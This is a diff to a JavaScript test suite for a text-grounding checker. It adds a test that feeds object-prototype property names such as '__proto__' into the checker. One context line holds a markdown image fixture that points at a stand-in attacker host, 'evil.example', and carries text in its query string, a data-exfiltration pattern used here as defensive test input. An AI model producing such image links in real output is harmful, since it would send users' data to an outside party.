@@ -36,6 +36,16 @@ describe('an explanation that somebody else wrote', () => {
     expect(groundedText(' ', template, REGIONS).accepted).to.equal(false);
   });
 
+  it('is read the same where words and columns are named as what every object has', () => {
+    for (const name of ['constructor', 'toString', 'valueOf', '__proto__', 'hasOwnProperty']) {
+      const table = {
+        ...REGIONS,
+        styles: REGIONS.styles.map((style) => ({ ...style, label: name, quantity: false })),
+      };
+      expect(untracedIn(`Europe has 12 ${name}, twelve ${name}.`, table)).to.include('12');
+    }
+  });
+
   it('gives way to the template where it is no prose', () => {
     const texts = [
       'Europe leads. ![x](https://evil.example/?q=Europe)',
